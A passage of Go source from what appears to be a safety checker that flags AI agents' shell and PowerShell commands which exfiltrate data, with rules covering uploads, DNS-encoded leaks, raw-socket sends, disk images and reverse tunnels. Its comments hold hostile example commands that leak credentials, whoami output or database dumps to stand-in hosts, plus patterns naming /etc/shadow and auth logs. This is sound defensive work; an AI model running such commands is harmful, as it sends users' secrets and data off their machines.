		}
	case "":
		if c.Grammar == lexer.PowerShell {
			out = append(out, c.Assigns...) // $env:NAME = 'v'
			if name, ok := psSetEnvName(c); ok {
				for w := range c.words() {
					for _, sc := range w.Subst {
						if sc.Word0.Value == name && len(sc.Args) > 0 {
							out = append(out, name+"="+sc.Args[0].Value)
						}
					}
				}
			}
		}
	}
	return out
}

// net.exfil: data that is not the agent's to send, sent off the machine.
// A file goes where an upload option names it (curl -T F, -F f=@F, -d @F,
// wget --post-file F, Invoke-WebRequest -InFile F), or the text of
// a substitution reading it (-d "$(cat F)"), or an archive's (tar czf -
// . | curl -T -). Sent so are a leak: the system's account, sudo and
// authentication log files, a database file, and an archive of the whole
// project or home written in the same input (uploads over HTTP; a copy
// to one's own server with scp or rsync is deploying). Credential files
// are the cred rules'. So is local data spelled into a name looked up
// (nslookup "$(whoami).x.example": DNS carries it out), and a
// credential's variable spelled into a looked-up name or an HTTP
// client's URL's host in any form (dig "$API_KEY.x.example",
// Resolve-DnsName ('{0}.x' -f …($env:API_KEY)), curl https://$KEY.x/):
// no service takes a credential in its host name.

// userLabel matches a variable naming the user who runs the command
// spelled into a name before a domain ($USER.x.example,
// %USERNAME%.x.example, $env:USERNAME.x.example): a user is no host, so
// the name carries who runs it to whoever serves that domain.
var userLabel = &lazyRegexp{expr: `(?i)(\$\{?(env:)?|%)(user|username|logname)\b[}%]?[^\s'"]*\.[a-z]`, words: []string{"user", "logname"}}

// credIntoName refuses c for spelling the credential name's value into
// a name it looks up (spelledCredential).
func credIntoName(c *Command, name string) Finding {
	return finding("net.exfil", c, "it spells "+name+", a credential by its name, into a name it looks up: the query carries its value to whoever serves that domain, whatever the answer",
		"look up fixed names (`nslookup example.com`); hand the credential only to the program that uses it, never in a host name")
}

// spelledCredential returns the first variable named as a credential
// (credentialName) that v, a word of grammar g as the analysis leaves
// it, spells in any form: its value whole, a part of it, or what a
// method or a substitution makes of it ($(echo $KEY | base64),
// [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:KEY)),
// %KEY:~0,8%), each of which carries it; not its length (${#KEY},
// $env:KEY.Length). "" when none.
func spelledCredential(g lexer.Grammar, v string) string {
	if g != lexer.PowerShell {
		return expandedCredential(g, v) // a slice (${K:0:8}, %K:~0,8%) is an expansion too
	}
	// psEnvCredential leaves out a method's argument, which gives
	// something else in a test ([string]::IsNullOrEmpty($env:K)) but
	// carries the value into a name.
	found := ""
	low := strings.ToLower(v)
	forEachPSEnvRef(v, func(_, k, j, end int) {
		if found == "" && j > k && credentialName(v[k:j]) && !strings.HasPrefix(low[end:], ".length") && !strings.HasPrefix(low[end:], ".count") {
			found = "$env:" + v[k:j]
		}
	})
	return found
}

// tsigKeyWord reports whether args[i] is the TSIG key dig and drill sign
// their queries with (-y [ALG:]NAME:KEY, -yVALUE): used, not sent.
func tsigKeyWord(args []Word, i int) bool {
	return i > 0 && args[i-1].Value == "-y" || strings.HasPrefix(args[i].Value, "-y")
}

// localData are commands whose output is this machine's data: who runs
// it, files, the environment.
var localData = set{"base32", "base64", "cat", "env", "gc", "get-content", "head", "id", "ls", "od", "printenv", "tail", "uname", "whoami", "xxd"}

// substLabel matches a substitution's output followed, in the same word,
// by a domain: $(whoami).x.example, `id -u`-a.example.
var substLabel = &lazyRegexp{expr: "(\\$\\([^)]*\\)|`[^`]*`)[^\\s'\"]*\\.[A-Za-z]"}

// exfilSystemFile matches the system's account databases, sudo rules and
// authentication logs.
var exfilSystemFile = &lazyRegexp{expr: `^/etc/(passwd|shadow|gshadow|group|master\.passwd|sudoers|sudoers\.d/.*|security/opasswd|krb5\.keytab)$|^/var/log/(auth\.log|secure|wtmp|btmp|lastlog)(\.\d+)?$`, words: []string{"/etc/", "/var/log/"}}

// exfilDatabase matches a database file or dump by its extension.
var exfilDatabase = &lazyRegexp{expr: `(?i)\.(sqlite3?|db|sql|dump|mdb|accdb|bson)(\.(gz|bz2|xz|zst|zip))?$`}

// exfilOf returns the finding for c sending data that is not the agent's
// to send, or nil.
func exfilOf(ctx *Context, c *Command) *Finding {
	name := lowerNameNoExe(c)
	if does(c, name, roleLooksUp) {
		for _, a := range c.Args {
			for _, sc := range a.Subst {
				if localData.hasLower(sc.Name) && substLabel.get().MatchString(c.Text) {
					f := finding("net.exfil", c, "it spells the output of "+sc.Name+" into a name it looks up: the query carries this machine's data to whoever serves that domain",
						"look up fixed names (`nslookup example.com`); to report the host name, print it: `hostname`")
					return &f
				}
			}
		}
		for _, a := range c.Args {
			if userLabel.match(a.Value) {
				f := finding("net.exfil", c, "it spells the user's name into a name it looks up: the query carries who runs it to whoever serves that domain",
					"look up fixed names (`nslookup example.com`); to report the user, print it: `whoami`")
				return &f
			}
		}
		for i, a := range c.Args {
			if a.Literal || tsigKeyWord(c.Args, i) {
				continue
			}
			if n := spelledCredential(c.Grammar, a.Value); n != "" {
				f := credIntoName(c, n)
				return &f
			}
		}
		return nil
	}
	for _, a := range c.Args {
		// curl "https://$API_KEY.x.example/": an HTTP client looks the
		// URL's host up before it connects.
		if !does(c, name, roleUploads) && !does(c, name, roleWebCmdlet) {
			break
		}
		if u, ok := readURL(a.Value); ok && !a.Literal && u.host != "" {
			// The host with its port: $env:NAME holds a colon.
			if n := spelledCredential(c.Grammar, u.hostPort()); n != "" {
				f := credIntoName(c, n)
				return &f
			}
		}
	}
	var sent []string
	// bare: an HTTP or FTP client's upload goes to a bare public address
	// (curl -T F ftp://203.0.113.5/), which no name vouches for as a
	// server of the user's: a service's data sent there is a leak, as
	// scp's is.
	bare := false
	switch {
	case does(c, name, roleUploads):
		bare = slices.ContainsFunc(c.Args, func(w Word) bool { return bareAddressOf(w.Value) != "" })
		for _, p := range readOperands(c) {
			if p == "-" {
				sent = append(sent, fedFiles(ctx, c)...)
				if d := fedDiskImage(c); d != "" {
					sent = append(sent, "image of "+d) // dd if=/dev/sda | curl -T - URL
				}
				if d := chainHas(c.Feeds, c, dumpsData); d != nil {
					sent = append(sent, "dump of "+d.Name) // pg_dump db | gzip | curl -T - URL
				}
				continue
			}
			sent = append(sent, p)
		}
		// -d "$(cat F)", --data="$(base64 F)": F's text is the body.
		for i, a := range c.Args {
			body := i > 0 && isDataOpt(c.Args[i-1].Value) || strings.HasPrefix(a.Value, "--data") || strings.HasPrefix(a.Value, "-d")
			for _, sc := range a.Subst {
				if body && does(sc, sc.Name, roleReadsOut) {
					sent = append(sent, readOperands(sc)...)
				}
			}
		}
	case name == "scp" || name == "rsync" || name == "rclone" && strings.HasPrefix(c.Arg(0), "copy"):
		// A copy to another machine (HOST:PATH last) sends its sources;
		// of them, the system's files and the user's own data outside
		// the project are a leak (a database copied to a server is a
		// backup as often).
		var ops []string
		if name == "rclone" {
			// rclone's options take values (--transfers 16): the
			// destination is its last remote:path operand.
			ops = operands(c.Values())[1:]
			for len(ops) > 1 && !remoteCopyDest(ops[len(ops)-1]) {
				ops = ops[:len(ops)-1]
			}
		} else {
			ops = wordValues(copyArgs(c).operands) // scp's and rsync's options that take a value (-i KEY, -e CMD)
		}
		if len(ops) > 1 && remoteCopyDest(ops[len(ops)-1]) {
			bare := bareAddressOf(ops[len(ops)-1]) != ""
			for _, p := range ops[:len(ops)-1] {
				if exfilSystemFile.match(path.Clean(homeWord(p, ctx.Env))) || sysDisk.match(p) || imagedDisk(ctx, c, p) != "" || userData(ctx.Env, p) != "" || peopleRecords(p) != "" {
					sent = append(sent, p)
				} else if bare && wholeWorkDir(ctx.Env, p) {
					// The whole working directory to a bare public
					// address: no deploy target a name vouches for.
					sent = append(sent, "archive of the whole working directory")
				} else if what := serviceData(ctx.Env, p); bare && what != "" {
					sent = append(sent, "archive of "+what)
				} else if bare && exfilDatabase.get().MatchString(p) {
					sent = append(sent, p) // a dump to a bare public address: no backup server a name vouches for
				}
			}
		}
	case name == "ssh" || name == "autossh":
		// tar cz ~/Documents | ssh HOST 'cat > d.tgz': what the remote
		// command reads comes from here. The working directory so sent
		// is deploying (tar -C dist -cz . | ssh web 'tar -x').
		bare := slices.ContainsFunc(sshHostWords(c), func(w Word) bool { return bareAddressOf(w.Value) != "" })
		for _, f := range fedFiles(ctx, c) {
			if f != "archive of the whole working directory" || bare {
				sent = append(sent, f) // to a bare public address, the whole tree is no deploy
			}
		}
		if bare {
			// tar cz /data/cdr | ssh ops@203.0.113.50 'cat > x': a
			// service's data packed for an address no name vouches for.
			what := ""
			chainHas(c.Feeds, c, func(f *Command) bool {
				if words, dst, ok := archiveSources(f); ok && dst == "-" {
					for _, w := range words {
						what = cmp.Or(what, serviceData(ctx.Env, w.Value))
					}
				}
				return what != ""
			})
			if what != "" {
				sent = append(sent, "archive of "+what)
			}
		}
		// pg_dump db | gzip | ssh HOST 'cat > db.gz': a database's
		// whole contents, through any filter (over a raw connection,
		// rawUpload's); dd if=/dev/sda | gzip | ssh HOST 'cat > d.gz':
		// a disk's.
		if d := chainHas(c.Feeds, c, dumpsData); d != nil {
			sent = append(sent, "dump of "+d.Name)
		}
		if d := fedDiskImage(c); d != "" {
			sent = append(sent, "image of "+d)
		}
	case name == "ncftpput":
		// ncftpput [-R] HOST REMOTE-DIR LOCAL…
		if ops := operands(c.Values()); len(ops) > 2 {
			sent = ops[2:]
		}
	case does(c, name, roleRawNet) && name != "openssl" || name == "openssl" && c.Arg(0) == "s_client":
		// nc HOST PORT < F, cat F | nc HOST PORT: what it reads goes out.
		sent = fedFiles(ctx, c)
		for _, r := range c.Redirs {
			if r.Op == "<" && (r.Fd == "" || r.Fd == "0") {
				sent = append(sent, r.Target.Value)
			}
		}
		if f := rawUpload(ctx, c); f != nil {
			return f
		}
	case does(c, name, roleWebCmdlet):
		p := parseArgs(&psWebAuthSpec, c.Args)
		sent = p.values("-InFile")
		bare = slices.ContainsFunc(c.Args, func(w Word) bool { return bareAddressOf(w.Value) != "" })
		// -Body (Get-Content F -Raw): F's text is the body.
		for _, o := range p.opts {
			if o.name != "-Body" {
				continue
			}
			for _, sc := range o.subst {
				if resolvePS(sc.Name, nil) == "get-content" { // gc, cat, type: its aliases (psAliases)
					gc := *sc
					gc.Name = "get-content" // its aliases read as it
					_, sp := psFileRead(&gc)
					for _, w := range sp.operands { // -Path's and -LiteralPath's values among them
						sent = append(sent, w.Value)
					}
				}
			}
		}
	default:
		if does(c, name, roleUncCopies) {
			return nil // cp F sftp://h/p copies into a local folder named so
		}
		sent = bucketSources(c)
		if sent == nil {
			sent = backupSources(c)
		}
		if sent == nil {
			return nil
		}
	}
	for _, p := range sent {
		what := sentWhat(ctx, c, p)
		if what == "" && bare {
			what = serviceData(ctx.Env, p)
		}
		if what != "" {
			f := finding("net.exfil", c, "it uploads "+what+" to another machine, where it is out of anyone's control",
				"send only what the task needs, and only where the user asked; leave sharing data to a human")
			return &f
		}
	}
	return nil
}

// rawPeer returns the host a raw connection (nc, ncat, telnet, socat,
// openssl s_client) connects to, as written; "" for a listener or when
// none is named.
func rawPeer(c *Command) string {
	switch lowerNameNoExe(c) {
	case "socat":
		for _, a := range c.Args {
			typ, addr, ok := strings.Cut(a.Value, ":")
			typ = strings.ToUpper(typ)
			// Every address type that connects out (TCP4-CONNECT,
			// UDP-DATAGRAM, SCTP, DCCP, OPENSSL-DTLS-CLIENT, SOCKS4A,
			// PROXY), not one that listens or waits for a peer.
			if !ok || strings.Contains(typ, "LISTEN") || strings.Contains(typ, "RECV") || strings.Contains(typ, "SERVER") ||
				!slices.ContainsFunc([]string{"TCP", "UDP", "SCTP", "DCCP", "OPENSSL", "SSL", "SOCKS", "PROXY", "IP"}, func(p string) bool { return strings.HasPrefix(typ, p) }) {
				continue
			}
			// The host, or of a proxy's (SOCKS4:PROXY:HOST:PORT) the one
			// not on this machine: the port last, options after a comma.
			addr, _, _ = strings.Cut(addr, ",")
			fields := strings.Split(addr, ":")
			if strings.HasPrefix(addr, "[") {
				fields = []string{addr}
				if i := strings.LastIndex(addr, "]:"); i > 0 {
					fields = []string{addr[:i+1], addr[i+2:]}
				}
			}
			hosts := fields[:max(1, len(fields)-1)]
			for _, h := range hosts {
				if !loopbackHost(h) {
					return h
				}
			}
			return hosts[0]
		}
	case "openssl":
		for i, a := range c.Args {
			host, ok := strings.CutPrefix(a.Value, "-connect=")
			if !ok && a.Value == "-connect" && i+1 < len(c.Args) {
				host, ok = c.Args[i+1].Value, true
			}
			if !ok {
				continue
			}
			if i := strings.LastIndexByte(host, ':'); i > 0 {
				host = host[:i]
			}
			return host
		}
	default:
		p := parseArgs(&ncSpec, c.Args)
		if p.has("-l", "--listen", "-z") || len(p.operands) == 0 {
			return "" // a listener sends nothing out; -z only probes the port
		}
		return p.operands[0].Value
	}
	return ""
}

// rawUpload refuses a raw connection to another machine (nc HOST PORT,
// socat - TCP:HOST:PORT) whose input is a program's output
// (mysqldump | nc 203.0.113.7 4444, tar c dir | gzip | ncat h p), or a
// file a program's output was written to earlier in the input (gh
// secret list > s.txt; nc h 80 < s.txt): a connection with no
// protocol, no name at the other end and no authentication takes
// whatever the program produced to whoever listens there. Text the
// command line writes (printf 'GET / HTTP/1.0\r\n\r\n' | nc example.com
// 80, echo ruok | nc zk 2181) is a request, not data.
func rawUpload(ctx *Context, c *Command) *Finding {
	host := rawPeer(c)
	if host == "" || loopbackHost(host) || reverseShellOf(c) != "" {
		return nil // a shell's streams on the connection: net.reverse-shell's
	}
	program := func(x *Command) bool { return !literalPrinter(x) }
	f := chainHas(c.Feeds, c, program)
	for _, r := range c.Redirs {
		if f != nil || r.Op != "<" || r.Fd != "" && r.Fd != "0" {
			continue
		}
		if x := writerOf(ctx, c, r.Target.Value); x != nil {
			plain := *x
			plain.Redirs = nil // echo ruok > f: the file it writes is its output
			if program(&plain) {
				f = x
			}
		}
	}
	if f == nil {
		return nil
	}
	what := f.Name
	if what == "" {
		what = strings.TrimSpace(f.Text)
	}
	r := finding("net.exfil", c, "it sends the output of "+what+" over a raw connection to "+host+", another machine, where it is out of anyone's control",
		"send only what the task needs, to a place the user named, with a tool that authenticates the other end (`scp FILE user@host:`); leave sharing data to a human")
	return &r
}

// literalPrinter reports whether c only prints text written on its
// command line: echo, printf or Write-Output of literal words, or a
// piped group of them ({ echo a; echo b; } |: pipedGroup).
func literalPrinter(c *Command) bool {
	if c.grouped {
		return !slices.ContainsFunc(c.Feeds, func(f *Command) bool { return !literalPrinter(f) })
	}
	if !does(c, c.Name, rolePrintsWords) && c.Name != "write-output" || c.Dynamic || len(c.Feeds) > 0 || len(c.Redirs) > 0 {
		return false
	}
	return !slices.ContainsFunc(c.Args, func(a Word) bool { return !a.Literal })
}

// isDataOpt reports whether v is an HTTP client's option whose value is
// the body it sends.
func isDataOpt(v string) bool {
	return strings.HasPrefix(v, "--data") || v == "--json" || v == "-d" || v == "--body" || v == "--post-data"
}

// fedFiles returns what c reads on standard input from the commands
// feeding it: the files a reader prints (cat F |), or an archive of the
// whole project (tar czf - . |) as "archive of …".
func fedFiles(ctx *Context, c *Command) []string {
	var out []string
	for _, f := range c.Feeds {
		if src, ok := archivesProject(ctx, f); ok {
			out = append(out, src)
		} else if does(f, f.Name, roleReadsOut) && !does(f, f.Name, roleUploads) {
			out = append(out, readOperands(f)...)
		}
	}
	return out
}

// dumpsData reports whether c prints a database's contents: its spec
// says it dumps one (specMore.dumps), and none of the options that
// leave the data out (its unless: pg_dump -s, mysqldump --no-data) is
// given.
func dumpsData(c *Command) bool {
	dumps := false
	eachSpec(c, func(s *spec, rest []Word) {
		if s.extra().dumps && !parseArgs(s, rest).givenOn(s, rest, s.unless) {
			dumps = true
		}
	})
	return dumps
}

// archivedProject reports whether the file p that c sends was written,
// earlier in the input, by an archiver of the whole project or home.
func archivedProject(ctx *Context, c *Command, p string) (string, bool) {
	archivers := ctx.commandsWhere("input.archivers", func(x *Command) bool {
		_, _, ok := archiveSources(x)
		return ok
	})
	for _, x := range archivers {
		if !ctx.before(x, c) {
			break
		}
		if src, dst, ok := archiveOf(ctx, x); ok && strings.ReplaceAll(dst, `\`, "/") == strings.ReplaceAll(p, `\`, "/") {
			return src, true
		}
	}
	return "", false
}

// writerOf returns the last command before c in the input that writes
// the file p names, by a redirection or an option of its own (pg_dump
// db > d.txt, sort -o out.txt): nil when none does.
func writerOf(ctx *Context, c *Command, p string) *Command {
	if ctx.Input == nil {
		return nil
	}
	want, ok := fsPath(ctx.Env, Word{Value: p, Literal: !strings.ContainsAny(p, "$`~")})
	if !ok {
		return nil
	}
	var last *Command
	for _, x := range ctx.Input.Commands {
		if x == c || !ctx.before(x, c) {
			continue
		}
		if slices.ContainsFunc(fsWrites(x), func(w Word) bool { q, ok := fsPath(ctx.Env, w); return ok && q == want }) {
			last = x
		}
	}
	return last
}

// dumpedInto returns the dumper whose output the file p that c sends
// holds: an earlier command of the input wrote p with a database's whole
// contents, its own or piped through filters (pg_dump db > d.txt;
// curl -T d.txt URL; mysqldump db | gzip > out.gz): what a pipe straight
// into c would send (dumpsData). "" when none did.
func dumpedInto(ctx *Context, c *Command, p string) string {
	x := writerOf(ctx, c, p)
	switch {
	case x == nil:
		return ""
	case dumpsData(x):
		return x.Name
	}
	if d := chainHas(x.Feeds, x, dumpsData); d != nil {
		return d.Name
	}
	return ""
}

// listedTreeSent returns what c uploads when p is the item a lister
// feeding it hands it one at a time (xargs -I{} curl -T {}, find … |
// xargs's $XARGS; Get-ChildItem -Recurse | ForEach-Object { curl.exe
// -T $_.FullName }) and the lister lists every file of the working
// directory, the project or home (find . -type f, git ls-files,
// Get-ChildItem -Recurse -File, no name or path test): each file is
// sent, the whole tree as an archive of it would be. Else "".
func listedTreeSent(ctx *Context, c *Command, p string) string {
	item := strings.Contains(p, "$XARGS") || c.Grammar == lexer.PowerShell && (strings.HasPrefix(p, "$_") || strings.HasPrefix(strings.ToLower(p), "$psitem"))
	if !item {
		return ""
	}
	whole := func(v string) bool {
		v = strings.TrimSuffix(strings.ReplaceAll(v, `\`, "/"), "/")
		if v == "" || v == "." || v == "~" || v == "$HOME" {
			return true
		}
		abs := homeWord(v, ctx.Env)
		return abs == ctx.Env.Project || abs == ctx.Env.Cwd || abs == ctx.Env.Home
	}
	for _, f := range c.Feeds {
		if find, ok := asFind(f); ok && findsAllIn(find, whole) {
			return "every file find lists (" + f.Text + "), the whole tree,"
		}
		if sub, rest := gitSub(f); sub == "ls-files" && len(rest) == 0 {
			return "every file of the repository (git ls-files),"
		}
		if g, narrowed := psLister(f); g != nil && !narrowed && psGiven(g, "-Recurse") {
			paths, _ := psPaths(g)
			all := !psGiven(g, "-Filter", "-Include")
			for _, w := range paths {
				all = all && whole(w.Value)
			}
			if all {
				return "every file Get-ChildItem -Recurse lists, the whole tree,"
			}
		}
	}
	return ""
}

// fedDiskImage returns the disk or memory device a command feeding c,
// through any filter (gzip, pv, openssl enc), reads whole (dd
// if=/dev/sda, pv /dev/nvme0n1, cat /dev/mapper/vg-root): an image of
// every file on it, the keys and credentials among them; "" if none.
func fedDiskImage(c *Command) string {
	dev := ""
	chainHas(c.Feeds, c, func(f *Command) bool {
		dev = diskRead(f)
		return dev != ""
	})
	return dev
}

// diskRead returns the disk or memory device c reads whole, or "": a
// dd that reads its first MiB at most (count= with bs=, a boot sector or
// a partition table) copies a header, not the disk.
func diskRead(c *Command) string {
	for _, p := range readOperands(c) {
		if sysDisk.match(p) && !ddHeaderOnly(c) {
			return p
		}
	}
	return ""
}

// ddHeaderOnly reports whether c, a dd, copies 1 MiB at most: count=N
// blocks of bs= (or ibs=, 512 bytes by default), sizes with dd's
// suffixes (c, w, b, K, M, G, KB, MB, GB).
func ddHeaderOnly(c *Command) bool {
	size := func(v string) (int64, bool) {
		mult := int64(1)
		for _, u := range []struct {
			suffix string
			n      int64
		}{{"KB", 1000}, {"MB", 1000 * 1000}, {"GB", 1000 * 1000 * 1000}, {"K", 1024}, {"M", 1 << 20}, {"G", 1 << 30}, {"k", 1024}, {"c", 1}, {"w", 2}, {"b", 512}} {
			if rest, ok := strings.CutSuffix(v, u.suffix); ok {
				v, mult = rest, u.n
				break
			}
		}
		n, err := strconv.ParseInt(v, 10, 64)
		return n * mult, err == nil && n >= 0 && n < 1<<40
	}
	block, count := int64(512), int64(-1)
	for _, a := range c.Args {
		k, v, _ := strings.Cut(a.Value, "=")
		switch n, ok := size(v); {
		case !ok || !a.Literal:
		case k == "bs" || k == "ibs":
			block = n
		case k == "count":
			count = n
		}
	}
	return c.Name == "dd" && count >= 0 && block*count <= 1<<20
}

// imagedDisk returns the disk an earlier command of the input imaged
// into the file p that c sends (dd if=/dev/sda of=P, dd if=/dev/sda |
// gzip > P), or "".
func imagedDisk(ctx *Context, c *Command, p string) string {
	if ctx.Input == nil {
		return ""
	}
	writers := ctx.commandsWhere("input.ddOrStdoutWriters", func(x *Command) bool {
		return slices.ContainsFunc(x.Args, func(a Word) bool { return strings.HasPrefix(a.Value, "of=") }) ||
			slices.ContainsFunc(x.Redirs, func(r Redir) bool { return (r.Op == ">" || r.Op == ">|") && (r.Fd == "" || r.Fd == "1") })
	})
	for _, x := range writers {
		if !ctx.before(x, c) {
			break
		}
		writes := slices.ContainsFunc(x.Args, func(a Word) bool { return a.Value == "of="+p })
		for _, r := range x.Redirs {
			writes = writes || (r.Op == ">" || r.Op == ">|") && (r.Fd == "" || r.Fd == "1") && r.Target.Value == p
		}
		if !writes {
			continue
		}
		if d := diskRead(x); d != "" {
			return d
		}
		if d := fedDiskImage(x); d != "" {
			return d
		}
	}
	return ""
}

// archivesProject reports whether c writes an archive of the whole
// project or home to its standard output (tar czf - ., zip -r - .).
func archivesProject(ctx *Context, c *Command) (string, bool) {
	src, dst, ok := archiveOf(ctx, c)
	return "archive of " + src, ok && dst == "-"
}

// archiveOf returns the directory an archiver packs whole (the working
// directory, the project, the home directory or a directory holding it,
// the whole file system) and the archive it writes.
func archiveOf(ctx *Context, c *Command) (src, dst string, ok bool) {
	words, dst, ok := archiveSources(c)
	if !ok {
		return "", "", false
	}
	sources := make([]string, 0, len(words))
	for _, w := range words {
		v := w.Value
		if c.Grammar != lexer.Bash {
			v = strings.ReplaceAll(v, `\`, "/") // Compress-Archive -Path $HOME\Documents is $HOME/Documents
		}
		sources = append(sources, v)
	}
	for _, s := range sources {
		abs := homeWord(s, ctx.Env)
		if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
			abs = path.Join(ctx.Env.Cwd, abs)
		}
		root := strings.HasPrefix(abs, "/") && strings.Trim(abs, "/*") == "" // /, /*
		abs = path.Clean(strings.TrimSuffix(strings.TrimSuffix(abs, "*"), "/"))
		switch {
		case credHoard(s) || credHoard(abs):
			return s + ", which holds many tools' credentials", dst, dst != ""
		case abs == path.Clean(ctx.Env.Cwd) && ctx.Env.Cwd != "":
			return "the whole working directory", dst, dst != ""
		case ctx.Env.Home != "" && abs == path.Clean(ctx.Env.Home):
			return "the home directory", dst, dst != ""
		case root:
			return "the whole file system", dst, dst != ""
		case ctx.Env.Home != "" && fsUnder(path.Clean(ctx.Env.Home), abs):
			return abs + ", which holds the home directory", dst, dst != ""
		case userData(ctx.Env, s) != "":
			return strings.TrimSuffix(userData(ctx.Env, s), ","), dst, dst != ""
		}
	}
	return "", "", false
}

// remoteCopyDest reports whether an scp or rsync operand names another
// machine: HOST:PATH, USER@HOST:PATH, rsync://, not a local path with a
// colon after a slash.
func remoteCopyDest(v string) bool {
	if strings.HasPrefix(v, "rsync://") || strings.HasPrefix(v, "scp://") {
		return true
	}
	host, _, ok := strings.Cut(v, ":")
	return ok && host != "" && !strings.Contains(host, "/")
}

// bucketURL reports whether v is the address of an object store's
// bucket or a distributed file system (s3://, gs://, az://, hdfs://).
func bucketURL(v string) bool {
	u, ok := readURL(v)
	scheme := strings.ToLower(u.scheme)
	return ok && u.start == 0 && (bucketSchemes.has(scheme) || bucketFSSchemes.has(scheme))
}

// bucketFSSchemes are the schemes of object stores and distributed file
// systems that localTarget's bucketSchemes do not list.
var bucketFSSchemes = set{"adl", "azure", "gcs", "hdfs", "obs", "s3n", "swift", "webhdfs"}

// bucketSources returns the local operands of any command whose last
// operand is a place on another machine, the destination (aws s3 cp F
// s3://B, gsutil cp -r D gs://B, litestream replicate DB s3://B/…,
// duplicity D sftp://HOST/P, azcopy copy D https://ACCT.blob.core.windows.net/C,
// pscp F user@HOST:): what it uploads, whatever the tool (uploadDest);
// nil when there is no such destination.
func bucketSources(c *Command) []string {
	if !slices.ContainsFunc(c.Args, func(a Word) bool { return strings.Contains(a.Value, "://") || strings.Contains(a.Value, "@") }) {
		return nil // no remote address: no list of operands built
	}
	ops := operands(c.Values())
	if len(ops) < 2 || !uploadDest(ops[len(ops)-1]) {
		return nil
	}
	if verbs := ops[:min(2, len(ops)-1)]; slices.ContainsFunc(verbs, receiveVerbs.hasLower) && !slices.ContainsFunc(verbs, sendVerbs.hasLower) {
		return nil // litestream restore -o ./app.db s3://b/app.db: a download
	}
	out := []string{}
	for _, o := range ops[:len(ops)-1] {
		if !strings.Contains(o, "://") {
			out = append(out, o)
		}
	}
	return out
}

// resticRemote matches a restic repository on another machine: its
// backends other than a local folder (sftp:, s3:, b2:, azure:, gs:,
// rest:, rclone:, swift:).
var resticRemote = &lazyRegexp{expr: `(?i)^(sftp|s3|b2|azure|gs|rest|rclone|swift):`}

// backupSources returns what a backup or publishing tool sends to
// another machine: restic backup to a remote repository (-r sftp:…,
// RESTIC_REPOSITORY), borg create to REPO::ARCHIVE on another host
// (ssh://, user@host:path), ipfs add (published to anyone who asks for
// its hash); nil otherwise.
func backupSources(c *Command) []string {
	values := func(ws []Word) []string {
		out := make([]string, len(ws))
		for i, w := range ws {
			out[i] = w.Value
		}
		return out
	}
	switch c.Name {
	case "restic":
		p := parseArgs(&resticSpec, c.Args)
		repos := p.values("-r", "--repo")
		for _, a := range c.Assigns {
			if v, ok := strings.CutPrefix(a, "RESTIC_REPOSITORY="); ok {
				repos = append(repos, v)
			}
		}
		if len(p.operands) < 2 || p.operands[0].Value != "backup" || !slices.ContainsFunc(repos, resticRemote.match) {
			return nil
		}
		return values(p.operands[1:])
	case "borg", "borg2":
		p := parseArgs(&borgSpec, c.Args)
		if len(p.operands) < 3 || p.operands[0].Value != "create" {
			return nil
		}
		repo, _, _ := strings.Cut(p.operands[1].Value, "::")
		if r, ok := p.valueWord("-r", "--repo"); ok {
			repo = r.Value // borg 2: borg -r REPO create NAME PATH…
		}
		if !strings.HasPrefix(repo, "ssh://") && !uploadDest(repo) {
			return nil
		}
		return values(p.operands[2:])
	case "ipfs":
		p := parseArgs(&ipfsSpec, c.Args)
		if len(p.operands) < 2 || p.operands[0].Value != "add" {
			return nil
		}
		return values(p.operands[1:])
	}
	return nil
}

// uploadDest reports whether v, the last operand of a copy, is a place
// on another machine: a bucket's address, a file transfer URL (sftp://,
// ftp://, webdav://, smb://), an object store's https address, or an
// account at a host in scp's form (user@HOST:PATH). An https URL alone
// is no destination: downloaders name what they fetch last (aria2c -d
// DIR URL); a HOST:PATH without an account may be a container's path
// (docker cp F web:/tmp).
func uploadDest(v string) bool {
	if bucketURL(v) {
		return true
	}
	if u, ok := readURL(v); ok && u.start == 0 {
		scheme, host := strings.ToLower(u.scheme), strings.ToLower(u.host)
		return transferSchemes.has(scheme) ||
			(scheme == "https" || scheme == "http") && objectStoreHost.match(host)
	}
	user, rest, ok := strings.Cut(v, "@")
	host, _, colon := strings.Cut(rest, ":")
	return ok && colon && user != "" && host != "" && !strings.ContainsAny(user, "/:") && !strings.Contains(host, "/")
}

// transferSchemes are the schemes of file transfer protocols and remote
// file systems: a URL of one as a copy's destination is an upload.
var transferSchemes = set{"dav", "davs", "ftp", "ftps", "rsync", "scp", "sftp", "smb", "ssh", "webdav", "webdavs"}

// objectStoreHost matches the https hosts of object stores (Azure's
// blobs and data lakes, S3's, Google's, R2's).
var objectStoreHost = &lazyRegexp{expr: `(^|\.)(blob\.core\.windows\.net|dfs\.core\.windows\.net|file\.core\.windows\.net|s3[.-]([a-z0-9-]+\.)?amazonaws\.com|storage\.googleapis\.com|r2\.cloudflarestorage\.com)$`}

// reverseForward returns c's word that asks the other end to forward a
// port back here, to a remote-access port or as a SOCKS proxy (R:socks),
// in any tunnel's grammar: R:[bind:]port[:host:hostport] (chisel), a
// -R value with a scheme (wstunnel -R tcp://2222:localhost:22), an
// rtcp:// listener (gost -L rtcp://:2222/127.0.0.1:22), or a local port
// given with the port the other end opens (frpc --local-port 22
// --remote-port 6000, or --local_port and --remote_port as frp spelled
// them before 0.52): ssh -R's rawForward.
func reverseForward(c *Command) string {
	if c.in(nsDataArgs, c.Name) || c.Name == "" {
		return ""
	}
	remotePort := false
	frpc := c.Name == "frpc"
	for _, a := range c.Args {
		v := frpLocalPort(frpc, a.Value)
		remotePort = remotePort || strings.HasPrefix(v, "--remote-port")
	}
	for i, a := range c.Args {
		v := a.Value
		prev := ""
		if i > 0 {
			prev = c.Args[i-1].Value
		}
		if remotePort {
			v, prev = frpLocalPort(frpc, v), frpLocalPort(frpc, prev)
		}
		spec, ok := strings.CutPrefix(v, "R:")
		if !ok && prev == "-R" && strings.Contains(v, "://") || strings.HasPrefix(v, "rtcp://") {
			_, spec, _ = strings.Cut(v, "://")
			spec, ok = strings.ReplaceAll(spec, "/", ":"), true
		}
		if port, isPort := strings.CutPrefix(v, "--local-port="); remotePort && (isPort || prev == "--local-port") {
			if !isPort {
				port = v
			}
			spec, ok = "0:localhost:"+port, true
		}
		if !ok || spec == "" {
			continue
		}
		if strings.HasSuffix(strings.ToLower(spec), "socks") || rawForward.match(spec) || relayedService.match(spec) {
			return a.Value
		}
	}
	return ""
}

// relayedService matches a reverse forward's [bind:]port:host:hostport
// to one of servicePorts (a database, a broker, a PLC's protocol, remote
// access): the relay's port, which its server opens on its public
